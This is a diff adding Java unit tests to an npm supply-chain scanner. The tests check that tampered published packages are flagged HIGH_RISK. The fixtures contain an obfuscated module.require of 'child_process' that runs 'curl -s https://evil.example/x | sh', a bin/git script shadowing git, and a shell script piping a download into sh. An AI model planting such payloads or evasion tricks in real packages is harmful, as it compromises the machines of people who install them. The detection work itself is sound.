@@ -962,4 +962,101 @@ class NpmScanTest {
                 d.detail().orElseThrow());
         assertEquals(FileStatus.PHANTOM, row(a, "package/src/helper.js").status(), "neither named nor ignored");
     }
+
+    /** Red team case A: ignored build output named by main/files carrying a payload loaded by a computed name. */
+    @Test
+    void buildOutputLoadingAModuleByAComputedNameThroughModuleRequireIsHighRisk() throws Exception {
+        String pj = "{\n  \"name\": \"redpkga\",\n  \"version\": \"1.0.1\",\n  \"main\": \"dist/index.js\",\n"
+                + "  \"files\": [\"dist\"],\n  \"scripts\": {\"build\": \"mkdir -p dist && cp src/index.js dist/index.js\"}\n}\n";
+        String src = "exports.add = function (a, b) { return a + b; };\n";
+        commit(files("package.json", pj, ".gitignore", "dist/\nnode_modules/\n", "src/index.js", src), "1.0.1");
+        git.tag("v1.0.1", false);
+        commit(files("package.json", pj.replace("1.0.1", "1.0.2"), ".gitignore", "dist/\nnode_modules/\n",
+                "src/index.js", src), "1.0.2");
+        git.tag("v1.0.2", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "redpkga")) {
+            npm.publish("1.0.1", files("package.json", pj, "dist/index.js", src
+                    + ";(function(){var m=module.require([\"chi\",\"ld_pro\",\"cess\"].join(\"\"));"
+                    + "m.exec(\"curl -s https://evil.example/x | sh\");})();\n"));
+            npm.publish("1.0.2", files("package.json", pj.replace("1.0.1", "1.0.2"), "dist/index.js", src
+                    + "var p=module.require(\"path\"),r=/^(\\d+)ms$/i.exec(s);\n"));
+            ReleaseReport r = scan(npm, "pkg:npm/redpkga", "1.0.1");
+            FileDivergence out = row(r.artifacts().get(0), "package/dist/index.js");
+            assertEquals(FileStatus.BUILD_OUTPUT, out.status());
+            assertTrue(out.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), out.riskFlags().toString());
+            assertTrue(out.highRisk());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+            // the same build output with a literal module.require and a regex's exec is ordinary build output
+            ReleaseReport quiet = scan(npm, "pkg:npm/redpkga", "1.0.2");
+            FileDivergence q = row(quiet.artifacts().get(0), "package/dist/index.js");
+            assertEquals(FileStatus.BUILD_OUTPUT, q.status());
+            assertFalse(q.highRisk(), q.riskFlags().toString());
+        }
+    }
+
+    /** Red team case B: the same evasion in the added lines of the tracked main module. */
+    @Test
+    void addedLinesLoadingAModuleByAComputedNameThroughModuleRequireAreHighRisk() throws Exception {
+        String pj = "{\n  \"name\": \"redpkgb\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\"\n}\n";
+        String src = "exports.add = function (a, b) { return a + b; };\n";
+        commit(files("package.json", pj, "index.js", src), "1.0.0");
+        git.tag("v1.0.0", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "redpkgb")) {
+            npm.publish("1.0.0", files("package.json", pj, "index.js", src
+                    + "var cp = module.require([\"chi\", \"ld_pro\", \"cess\"].join(\"\"));\n"
+                    + "cp.exec(\"curl -s https://evil.example/x | sh\");\n"));
+            ReleaseReport r = scan(npm, "pkg:npm/redpkgb", "1.0.0");
+            FileDivergence index = row(r.artifacts().get(0), "package/index.js");
+            assertEquals(FileStatus.MODIFIED, index.status());
+            assertTrue(index.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), index.riskFlags().toString());
+            assertTrue(index.highRisk());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    /**
+     * Red team case D: {@code directories.bin} makes npm link every file under it onto PATH; a release adding an
+     * extension-less {@code bin/git} shadows git. The unchanged command of the same folder stays MATCH.
+     */
+    @Test
+    void aNewFileUnderDirectoriesBinIsAnEntryPointAndAShebangScriptIsScanned() throws Exception {
+        String pj = "{\n  \"name\": \"redpkgd\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n"
+                + "  \"directories\": {\"bin\": \"./bin\"}\n}\n";
+        SortedMap<String, byte[]> tree = files("package.json", pj, "index.js", "exports.add = (a, b) => a + b;\n",
+                "bin/redd", "#!/usr/bin/env node\nconsole.log(require('..').add(1, 2));\n");
+        commit(tree, "1.0.0");
+        git.tag("v1.0.0", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "redpkgd")) {
+            npm.publish("1.0.0", with(tree, "bin/git",
+                    "#!/bin/sh\n: nothing to see\nexec /usr/bin/git \"$@\"\n"));
+            ReleaseReport r = scan(npm, "pkg:npm/redpkgd", "1.0.0");
+            ArtifactReport a = r.artifacts().get(0);
+            FileDivergence git = row(a, "package/bin/git");
+            assertEquals(FileStatus.PHANTOM, git.status());
+            assertTrue(git.riskFlags().containsAll(Set.of(RiskFlag.CODE, RiskFlag.ENTRY_MODULE)),
+                    git.riskFlags().toString());
+            assertTrue(git.highRisk());
+            FileDivergence redd = row(a, "package/bin/redd");
+            assertEquals(FileStatus.MATCH, redd.status());
+            assertFalse(redd.highRisk());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    /** A shebang script outside any bin declaration is still code, and a shell payload in it is HIGH_RISK. */
+    @Test
+    void aNewShebangScriptPipingADownloadIntoAShellIsHighRisk() throws Exception {
+        String pj = "{\n  \"name\": \"plain\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\"\n}\n";
+        SortedMap<String, byte[]> tree = files("package.json", pj, "index.js", "exports.x = 1;\n");
+        commit(tree, "1.0.0");
+        git.tag("v1.0.0", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "plain")) {
+            npm.publish("1.0.0", with(tree, "tools/update", "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"));
+            ReleaseReport r = scan(npm, "pkg:npm/plain", "1.0.0");
+            FileDivergence t = row(r.artifacts().get(0), "package/tools/update");
+            assertEquals(FileStatus.PHANTOM, t.status());
+            assertTrue(t.riskFlags().containsAll(Set.of(RiskFlag.CODE, RiskFlag.DYNAMIC_EXEC)), t.riskFlags().toString());
+            assertTrue(t.highRisk());
+        }
+    }
 }
